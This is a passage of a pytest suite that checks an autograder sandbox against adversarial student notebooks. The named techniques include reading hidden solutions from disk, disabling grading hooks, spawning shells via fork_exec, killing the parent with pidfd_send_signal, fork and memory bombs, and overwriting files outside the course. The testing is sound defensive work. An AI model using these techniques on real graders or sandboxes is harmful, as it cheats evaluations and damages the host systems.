        self.port, self.got, self.done = self.sock.getsockname()[1], [], threading.Event()
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self):
        while not self.done.is_set():
            try:
                conn, _ = self.sock.accept()
            except socket.timeout:
                continue
            except OSError:
                return
            conn.settimeout(1)
            try:
                data = conn.recv(200)
            except OSError:
                data = b""
            conn.close()
            self.got.append(data.decode(errors="replace") or "(connected, said nothing)")

    def close(self):
        self.done.set()
        self.thread.join(2)
        self.sock.close()


def token_files(token, course_dir):
    """Paths named with the run's token outside the course folder: /tmp, /var/tmp, /dev/shm, /root,
    the project folder (without .git and .venv)."""
    found = []
    for top, depth in (("/tmp", 6), ("/var/tmp", 3), ("/dev/shm", 3), ("/root", 3), (str(ROOT), 8)):
        base = top.count(os.sep)
        for folder, dirs, files in os.walk(top):
            found += [os.path.join(folder, n) for n in dirs + files if token in n]
            dirs[:] = ([d for d in dirs if d not in (".git", ".venv", "node_modules")
                        and os.path.join(folder, d) != str(course_dir)]
                       if folder.count(os.sep) - base < depth else [])
    return sorted(p for p in found if not p.startswith(str(course_dir) + os.sep))


def git_status():
    return set(subprocess.run(["git", "status", "--porcelain"], cwd=ROOT, capture_output=True,
                              text=True).stdout.splitlines())


def file_state(path):
    st = os.stat(path)
    try:
        xattrs = {name: os.getxattr(path, name) for name in os.listxattr(path)}
    except OSError:
        xattrs = {}
    return {"content": Path(path).read_bytes(), "mode": oct(st.st_mode), "mtime": st.st_mtime_ns,
            "xattrs": xattrs}


def changes(before, after):
    return [key for key in before if before[key] != after[key]]


def code_of(path):
    """The code cells' sources of a notebook (what an overwrite changes; course.submit may rewrite
    the file or add a note, never change its code)."""
    try:
        return [c.source for c in nbformat.read(path, as_version=4).cells if c.cell_type == "code"]
    except Exception as err:                                  # not a notebook any more
        return f"unreadable: {type(err).__name__}"


def clean_up(paths, token):
    """Remove what the attacks wrote (only paths named with this run's token)."""
    import shutil
    for path in paths:
        if token not in os.path.basename(path):
            continue
        if os.path.isdir(path) and not os.path.islink(path):
            shutil.rmtree(path, ignore_errors=True)
        else:
            with contextlib.suppress(OSError):
                os.unlink(path)


def put_back(path, before):
    """An attack wrote over a repository file: its bytes and time as they were."""
    if before["content"] != Path(path).read_bytes():
        Path(path).write_bytes(before["content"])
    os.utime(path, ns=(os.stat(path).st_atime_ns, before["mtime"]))


# ---- the class run ---------------------------------------------------------------------------

class Run(NamedTuple):
    rc: int
    seconds: float
    timed_out: bool
    stdout: str
    stderr: str
    stopped: list           # [(pid, args)] grading processes found stopped, then continued
    leftovers: list         # [Proc] alive after the run, ended by the test


def run_class(folder, course_dir, notebooks, timeout=CLASS_SECONDS):
    """`python -m instructor.course --course DIR NOTEBOOKS`, in its own session, TMPDIR in
    `folder`."""
    (folder / "tmp").mkdir(exist_ok=True)
    env = {**os.environ, "TMPDIR": str(folder / "tmp")}
    before = {p.pid for p in processes()}
    start = time.monotonic()
    proc = subprocess.Popen([PYTHON, "-m", "instructor.course", "--course", str(course_dir),
                             *map(str, notebooks)],
                            cwd=ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            text=True, start_new_session=True)
    stopped, since, timed_out = [], {}, False
    while True:
        try:
            out, err = proc.communicate(timeout=1)
            break
        except subprocess.TimeoutExpired:
            pass
        now = time.monotonic()
        tree = run_tree(proc.pid)
        for p in tree:
            if p.state in "Tt":
                since.setdefault(p.pid, now)
                if now - since[p.pid] > STOPPED_SECONDS:    # record it, and let the run go on
                    stopped.append((p.pid, p.args))
                    os.kill(p.pid, signal.SIGCONT)
                    del since[p.pid]
            else:
                since.pop(p.pid, None)
        if now - start > timeout:
            timed_out = True
            end(tree)
            proc.kill()
            out, err = proc.communicate()
            break
    seconds = time.monotonic() - start
    time.sleep(2)                                       # what ends by itself, ends
    leftovers = our_leftovers(proc.pid, folder, before)
    end(leftovers)
    return Run(proc.returncode, seconds, timed_out, out, err, stopped, leftovers)


def report(stdout, student):
    """(score, total) and {function: score} as course.py printed them for `student`, or
    (None, {})."""
    rows = {}
    for line in block(stdout, student)[1:]:
        total = re.match(r"total: ([\d.]+)/([\d.]+) points", line)
        if total:
            return (float(total[1]), float(total[2])), rows
        row = re.match(r"(\w+)\s+([\d.]+)/[\d.]+\s+(?:([\d.]+)/[\d.]+|-)", line)
        if row:
            rows[row[1]] = float(row[2]) + float(row[3] or 0)
    return None, rows


def block(stdout, student):
    """The lines course.py printed for `student`: its header line to its total."""
    lines = stdout.splitlines()
    start = next((i for i, line in enumerate(lines) if line.startswith(f"{student}:")), None)
    if start is None:
        return []
    end = next((i for i in range(start, len(lines)) if lines[i].startswith("total:")),
               len(lines) - 1)
    return lines[start:end + 1]


def wall_messages(course_dir, student, stdout):
    """The "WALL[...]" reports of an attacker's checks (autograded notebook, and the printed
    table)."""
    found = []
    path = course_dir / "autograded" / student / "nb07" / "nb07_em.ipynb"
    if path.exists():
        for cell in nbformat.read(path, as_version=4).cells:
            for output in cell.get("outputs", []):
                found += re.findall(REPORT, output.get("evalue", "") + output.get("text", ""))
    found += re.findall(REPORT, "\n".join(block(stdout, student)))
    return list(dict.fromkeys(found))


def check_messages(course_dir, student):
    """{grade_id: (passed, its check's message)} in the student's autograded notebook."""
    path = course_dir / "autograded" / student / "nb07" / "nb07_em.ipynb"
    if not path.exists():
        return {}
    return {cell.metadata.nbgrader.grade_id: (o.output_type == "stream",
                                              (o.get("evalue") or o.get("text", "")).strip())
            for cell in nbformat.read(path, as_version=4).cells if cell.cell_type == "code"
            and cell.get("metadata", {}).get("nbgrader", {}).get("grade")
            for o in cell.get("outputs", [])}


def score(o, student):
    """The student's points: as course.py printed them, else as its autograded notebook has them."""
    if o.totals[student]:
        return o.totals[student][0]
    checks = o.checks[student]
    return sum(POINTS.get(g, 0) for g, (passed, _) in checks.items() if passed) if checks else None


def grading_seconds(course_dir, students):
    """Seconds each student's grading took: from one autograded notebook written to the next."""
    seconds, last = {}, None
    for student in sorted(students):
        path = course_dir / "autograded" / student / "nb07" / "nb07_em.ipynb"
        if path.exists():
            written = path.stat().st_mtime
            if last is not None:
                seconds[student] = written - last
            last = written
    return seconds


@pytest.fixture(scope="module")
def released(release):
    """The student edition (conftest's release): (notebook, its folder)."""
    return nbformat.read(release / "nb07_em.ipynb", as_version=4), release


def say(request, text):
    """Print on the terminal, past pytest's capture: what the class run did, passed or not."""
    reporter = request.config.pluginmanager.get_plugin("terminalreporter")
    capture = request.config.pluginmanager.get_plugin("capturemanager")
    if reporter is not None:
        with capture.global_and_fixture_disabled() if capture else contextlib.nullcontext():
            reporter.write_line(text)


class Outcome(NamedTuple):
    run: Run
    token: str
    course: Path
    students: list
    totals: dict            # student -> (score, total) or None
    functions: dict         # student -> {function: score}
    messages: dict          # student -> ["WALL[...]"]
    seconds: dict           # student -> seconds its grading took
    files: list             # paths named with the token, outside the course
    git: list               # `git status --porcelain` lines that changed
    victim: list            # what changed in the test's file outside the course
    repo: list              # what changed in the project's data/gmm_true.json
    overwritten: list       # students whose submitted notebook is no longer what they submitted
    connections: list       # what reached the listener
    checks: dict            # student -> {grade_id: (passed, message)} in its autograded notebook


@pytest.fixture(scope="module")
def wall_class(request, tmp_path_factory, released):
    nb, _ = released
    folder = tmp_path_factory.mktemp("wall")
    course_dir, outside, subs = folder / "course", folder / "outside", folder / "submissions"
    outside.mkdir()
    subs.mkdir()
    victim = outside / "victim.txt"
    victim.write_text("a file outside the course folder\n")
    token = f"wallmark{uuid.uuid4().hex[:10]}"
    listener = Listener()
    notebooks = {}
    try:
        for student in sorted([*HONEST, *ATTACKS]):
            values = {"TOKEN": token, "TAG": student, "PORT": listener.port, "TESTPID": os.getpid(),
                      "TESTPGID": os.getpgid(0), "PIDNS": os.readlink("/proc/self/ns/pid"),
                      "ROOT": ROOT, "VICTIM": victim, "COURSE": course_dir}
            made = (notebook(nb, bodies()) if student in HONEST
                    else attacker(nb, ATTACKS[student], values))
            notebooks[student] = subs / f"{student}.ipynb"
            nbformat.write(made, notebooks[student])
        git_before, victim_before = git_status(), file_state(victim)
        repo_before = file_state(ROOT / "data" / "gmm_true.json")
        run = run_class(folder, course_dir, notebooks.values())
    finally:
        listener.close()
    git_after = git_status()
    repo = ROOT / "data" / "gmm_true.json"
    repo_after = file_state(repo)
    if changes(repo_before, repo_after):
        put_back(repo, repo_before)
    written = token_files(token, course_dir)
    clean_up(written, token)
    students = list(notebooks)
    tallies = {s: report(run.stdout, s) for s in students}
    submitted = {s: course_dir / "submitted" / s / "nb07" / "nb07_em.ipynb" for s in students}
    outcome = Outcome(
        run, token, course_dir, students, {s: t for s, (t, _) in tallies.items()},
        {s: rows for s, (_, rows) in tallies.items()},
        {s: wall_messages(course_dir, s, run.stdout) for s in students},
        grading_seconds(course_dir, students),
        written, sorted(git_before ^ git_after), changes(victim_before, file_state(victim)),
        changes(repo_before, repo_after),
        [s for s, p in submitted.items() if p.exists() and code_of(p) != code_of(notebooks[s])],
        list(listener.got), {s: check_messages(course_dir, s) for s in students})
    say(request, "\n" + summary(outcome))
    return outcome


def summary(o):
    run = o.run
    lines = [f"class run: exit code {run.rc}, {run.seconds:.0f} s"
             + (" (timed out)" if run.timed_out else "")
             + (f"; stopped: {run.stopped}" if run.stopped else "")]
    for s in o.students:
        total = f"{o.totals[s][0]:g}/{o.totals[s][1]:g}" if o.totals[s] else \
            f"not printed (notebook: {score(o, s):g})" if score(o, s) is not None else "not graded"
        took = f"{o.seconds[s]:.0f} s" if s in o.seconds else "-"
        gained = {f: p for f, p in o.functions[s].items() if p} if s not in HONEST else ""
        lines.append(f"  {s:<24} {total:>11} {took:>6}  {gained or ''} "
                     f"{' '.join(o.messages[s])}"[:500])
    for what in ("files", "git", "victim", "repo", "overwritten", "connections"):
        if getattr(o, what):
            lines.append(f"  {what}: {getattr(o, what)}")
    if run.leftovers:
        lines.append(f"  left behind: {[(p.pid, p.args[:60]) for p in run.leftovers][:10]} "
                     f"({len(run.leftovers)})")
    return "\n".join(lines)


def story(o, student, problems):
    a = ATTACKS.get(student)
    total = o.totals.get(student)
    head = f"attack {a.number}, {student}: {a.what}" if a else student
    happened = (f"it got {total[0]:g}/{total[1]:g} points" if total else "its total was not printed"
                + (f" (its autograded notebook: {score(o, student):g} points)"
                   if score(o, student) is not None else "")) + \
        (f" (points in {', '.join(f for f, p in o.functions[student].items() if p)})"
         if any(o.functions[student].values()) else "") + \
        (f", grading it took {o.seconds[student]:.0f} s" if student in o.seconds else "")
    reports = "; ".join(o.messages.get(student, [])) or "none"
    attacked = {g: m for g, (_, m) in o.checks.get(student, {}).items()
                if a and g.rpartition("_")[0] in a.answers}
    checks = ("".join(f"\n    {g}: {m[:160]}" for g, m in attacked.items())
              or " none (no autograded notebook)")
    return (f"{head}\n  expected: 0 points"
            f"{f' (at most {a.allowed})' if a and a.allowed else ''}, the class "
            f"graded to the end, nothing outside the course folder changed, no process left\n"
            f"  happened: {happened}\n  - " + "\n  - ".join(problems)
            + f"\n  its own reports: {reports}\n"
            f"  its attacked checks said:{checks}\n"
            f"  class run: exit code {o.run.rc}, {o.run.seconds:.0f} s\n{summary(o)}")


def gb(text):
    found = re.search(r"memory bomb: (\d+) GB touched, stopped by ([^\]]*)", text)
    return (int(found[1]), found[2]) if found else None


@pytest.mark.slow
@pytest.mark.parametrize("student", ATTACKS)
def test_an_attack_gains_nothing_and_leaves_nothing(wall_class, student):
    o, attack = wall_class, ATTACKS[student]
    problems = []
    got = score(o, student)
    if o.totals[student] is None:
        problems.append(f"its total was not printed (class run exit code {o.run.rc})")
    if got is not None and got > attack.allowed:
        problems.append(f"it earned {got:g} points, expected at most {attack.allowed}")
    short = [s for s in HONEST if score(o, s) is not None and score(o, s) < FULL]
    if short:
        problems.append("an honest student did not get every point "
                        f"({', '.join(f'{s}: {score(o, s)}' for s in short)}):"
                        f" grading is broken in this run, so this attacker's score proves little")
    mine = f"{o.token}-{student}"
    problems += [f"it wrote {p}" for p in o.files if mine in p]
    problems += [f"it connected to the test's listener: {c!r}" for c in o.connections
                 if student in c]
    reports = " ".join(o.messages[student])
    if attack.number == 4:
        later = [s for s in o.students if s > student and o.totals[s] is None]
        if later or o.run.rc:
            problems.append(f"the class run did not finish (exit code {o.run.rc}); "
                            f"not graded after it: {later}")
        problems += [f"it stopped a grading process for {STOPPED_SECONDS} s: {pid} {args[:80]}"
                     for pid, args in o.run.stopped]
    if attack.number == 5:
        forks = re.search(r"forked (\d+) times", reports)
        if forks and int(forks[1]):
            problems.append(f"the worker could fork {forks[1]} times (no limit on processes)")
        if gb(reports) and not re.match(r"(Memory|OS)Error", gb(reports)[1]):
            problems.append(f"memory bomb touched {gb(reports)[0]} GB before it stopped itself "
                            "(no memory limit)")
    if attack.number == 8:
        problems += [f"left behind: {p.pid} {p.args[:80]}" for p in o.run.leftovers
                     if SLEEP987.search(p.args)]
    if attack.number == 9:
        problems += [f"{s}'s submitted notebook was written over" for s in o.overwritten]
        problems += ([f"the test's file outside the course changed: {', '.join(o.victim)}"]
                     if o.victim else [])
        problems += [f"data/gmm_true.json changed: {', '.join(o.repo)}"] if o.repo else []
    assert problems == [], story(o, student, problems)


@pytest.mark.slow
def test_the_class_is_graded_to_the_end_and_the_honest_students_get_every_point(wall_class):
    o = wall_class
    problems = [f"{s}: {o.totals[s][0]:g}/{o.totals[s][1]:g}, expected {FULL}/{FULL}"
                for s in HONEST if o.totals[s] and o.totals[s] != (FULL, FULL)]
    problems += [f"{s}: no total printed" for s in o.students if o.totals[s] is None]
    if o.run.rc or o.run.timed_out:
        problems.append(f"course.py ended with exit code {o.run.rc}"
                        + (" (timed out)" if o.run.timed_out else "")
                        + f"; its stderr ends: {o.run.stderr[-600:]}")
    problems += [f"grading process stopped for {STOPPED_SECONDS} s: {pid} {args[:80]}"
                 for pid, args in o.run.stopped]
    assert problems == [], "\n".join(problems) + "\n" + summary(o)


@pytest.mark.slow
def test_nothing_outside_the_course_folder_changes(wall_class):
    o = wall_class
    theirs = [] if STRICT_GIT else [line for line in o.git
                                    if o.token not in line and not line[3:].startswith("data/")]
    problems = [f"written: {p}" for p in o.files]
    problems += [f"git status changed: {line!r}" for line in o.git if line not in theirs]
    problems += ([f"the test's file outside the course changed: {', '.join(o.victim)}"]
                 if o.victim else [])
    problems += [f"data/gmm_true.json changed: {', '.join(o.repo)}"] if o.repo else []
    problems += [f"{s}'s submitted notebook was written over" for s in o.overwritten]
    problems += [f"connection to the test's listener: {c!r}" for c in o.connections]
    assert problems == [], "\n".join(problems) + (
        f"\n(not counted, the concurrent rewrite's: {theirs})" if theirs else "")


@pytest.mark.slow
def test_no_process_outlives_the_class_run(wall_class):
    left = wall_class.run.leftovers
    assert left == [], (f"{len(left)} processes alive after the class run (ended by the test): " +
                        "; ".join(f"{p.pid} [{p.state}] {p.args[:70]} (in {p.cwd[:60]})"
                                  for p in left[:12]))


@pytest.mark.slow
def test_a_sleeping_answer_costs_its_own_time_budget_not_the_class(wall_class):
    """Reports the class run's wall time; the sleeper's grading should end within its budget."""
    o, student = wall_class, "b06_sleeper"
    from instructor import sandbox
    budget = getattr(sandbox, "BUDGET_SECONDS", None)
    limit = (budget or 60) + 30
    took = o.seconds.get(student)
    warnings.warn(f"class run of {len(o.students)} students: {o.run.seconds:.0f} s wall time; "
                  f"the sleeper's grading: {took if took is None else round(took)} s "
                  f"(budget: {budget})")
    problems = []
    if took is None or took > limit:
        problems.append(f"grading the sleeper took {took if took is None else round(took)} s, "
                        f"expected at most {limit} s (its time budget, "
                        f"{budget or 'none in this grader; 60 assumed'} s, plus 30)")
    if o.run.timed_out or o.run.rc:
        problems.append(f"the class run did not finish by itself (exit code {o.run.rc})")
    assert problems == [], story(o, student, problems)


# ---- 11. an answer cell copied in JupyterLab: two cells with one grade_id ------------------------

@pytest.mark.slow
def test_a_copied_answer_cell_does_not_stop_the_class(request, tmp_path, released):
    """The copy keeps the nbgrader metadata (same grade_id), its function renamed; the student is
    second alphabetically in a class of four.  Every other student must still be graded."""
    nb, _ = released
    honest = notebook(nb, bodies())
    copied = notebook(nb, bodies())
    index = next(i for i, c in enumerate(copied.cells)
                 if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "e_step")
    twin = nbformat.from_dict(json.loads(json.dumps(copied.cells[index])))
    twin.source = twin.source.replace("def e_step(", "def e_step_copy(")
    # JupyterLab gives the copy an id of its own
    twin.id = "e_step-copy"
    copied.cells.insert(index + 1, twin)
    students = {"a_honest": honest, "b_copy_paste": copied, "c_honest": honest, "d_honest": honest}
    paths = []
    for student, made in students.items():
        paths.append(tmp_path / f"{student}.ipynb")
        nbformat.write(made, paths[-1])
    run = run_class(tmp_path, tmp_path / "course", paths, timeout=900)
    totals = {s: report(run.stdout, s)[0] for s in students}
    say(request, f"\ncopied cell: exit code {run.rc}, {run.seconds:.0f} s, totals {totals}")
    problems = [f"{s}: {totals[s]}, expected ({FULL}, {FULL})" for s in students
                if s != "b_copy_paste" and totals[s] != (FULL, FULL)]
    if run.rc or run.timed_out:
        problems.append(f"course.py exit code {run.rc}; stderr ends: {run.stderr[-800:]}")
    assert problems == [], ("\n".join(problems) + f"\nb_copy_paste: {totals['b_copy_paste']}"
                            f"\nstdout:\n{run.stdout[-1500:]}")


# ---- quick: sandbox.grade on the cheapest attacks, in a child grading process ------------------

QUICK = r'''
import inspect, json, sys
from pathlib import Path
import nbformat
from instructor import sandbox
from helpers.checks import graded_parts
points = {f"{n}_{p}": pts for n, p, pts in graded_parts()}
release = sys.argv[2]
for path in sys.argv[3:]:
    nb = nbformat.read(path, as_version=4)
    results = sandbox.grade(nb, release)
    print(json.dumps({"student": Path(path).stem,
                      "points": sum(points[g] for g, r in results.items() if r.passed),
                      "passed": sorted(g for g, r in results.items() if r.passed),
                      "messages": sorted({r.message for r in results.values()
                                          if "WALL[" in r.message})}), flush=True)
'''

QUICK_ATTACKS = {
    "q1_steal_solution": Attack(1, "reads the solution from disk ("
                                + ", ".join(f"{f}={h}" for f, h in QUICK_STEAL_PLAN.items())
                                + ")", steal(QUICK_STEAL_PLAN), STEAL),
    "q2_hook_off": ATTACKS["b02_hook_off"],
    "q3_fork_exec": Attack(3, "_posixsubprocess.fork_exec of sh -c touch",
                           {"log_gaussian": FORK_EXEC_ANSWER}),
    "q4_pidfd_kill": Attack(4, "pidfd_send_signal(parent, SIGKILL)", {"log_gaussian": PIDFD_ANSWER},
                            SIGNALS),
}


def test_quick_attacks_on_sandbox_grade_earn_nothing(released, tmp_path):
    nb, release = released
    token = f"wallmark{uuid.uuid4().hex[:10]}"
    paths = []
    for student, attack in QUICK_ATTACKS.items():
        values = {"TOKEN": token, "TAG": student, "PORT": 9, "TESTPID": os.getpid(),
                  "TESTPGID": os.getpgid(0), "PIDNS": os.readlink("/proc/self/ns/pid"),
                  "ROOT": ROOT, "VICTIM": tmp_path / "none", "COURSE": tmp_path / "none"}
        paths.append(tmp_path / f"{student}.ipynb")
        nbformat.write(attacker(nb, attack, values), paths[-1])
    (tmp_path / "tmp").mkdir()
    before = {p.pid for p in processes()}
    start = time.monotonic()
    done = subprocess.run([PYTHON, "-c", QUICK, str(ROOT), str(release), *map(str, paths)],
                          cwd=ROOT, capture_output=True, text=True, timeout=120,
                          start_new_session=True,
                          env={**os.environ, "TMPDIR": str(tmp_path / "tmp")})
    seconds = time.monotonic() - start
    graded = {r["student"]: r for r in map(json.loads, filter(None, done.stdout.splitlines()))}
    time.sleep(0.5)
    left = [p for p in processes() if p.pid not in before and p.pid != os.getpid()
            and (str(tmp_path) in p.args or str(tmp_path) in p.cwd)]
    end(left)
    written = sorted(str(p) for p in Path("/tmp").glob(f"{token}*"))
    clean_up(written, token)
    problems = []
    for student, attack in QUICK_ATTACKS.items():
        got = graded.get(student)
        if got is None:
            problems.append(f"{student} (attack {attack.number}: {attack.what}): not graded; "
                            f"the grading process ended with exit code {done.returncode}" +
                            (" (killed by SIGKILL: the attack reached it)"
                             if done.returncode == -9 else "") +
                            f"; stderr ends: {done.stderr[-300:]}")
        elif got["points"]:
            problems.append(f"{student} (attack {attack.number}: {attack.what}): "
                            f"expected 0 points, got {got['points']} ({', '.join(got['passed'])}); "
                            f"its reports: {got['messages']}")
    problems += [f"written outside: {p}" for p in written]
    problems += [f"left behind: {p.pid} {p.args[:80]}" for p in left]
    assert problems == [], "\n".join(problems) + f"\n({seconds:.0f} s; what was graded: {graded})"


def test_behind_the_wall_the_environment_shows_only_what_python_runs_from(release):
    """nox keeps its temporary folders (pytest's course folders among them) inside the
    environment's folder: behind the wall only its bin/ and lib/ exist, so a solution kept beside
    them is not there to read."""
    import shutil
    import tempfile

    from instructor import sandbox
    beside = Path(tempfile.mkdtemp(prefix="wall-test-", dir=sys.prefix))
    try:
        (beside / "nb07_em.ipynb").write_text("{}", encoding="utf-8")
        probe = (f"import os, numpy; "
                 f"print(os.path.exists({str(beside / 'nb07_em.ipynb')!r}), "
                 f"os.listdir({sys.prefix!r}))")
        with tempfile.TemporaryDirectory() as folder:
            command, seccomp = sandbox.wall(folder)
            done = subprocess.run([*command, "--", sys.executable, "-c", probe],
                                  pass_fds=(seccomp,), capture_output=True, text=True, timeout=60)
    finally:
        shutil.rmtree(beside)
    assert done.returncode == 0, done.stderr[-2000:]
    seen, listing = done.stdout.strip().split(" ", 1)
    assert seen == "False" and beside.name not in listing, done.stdout
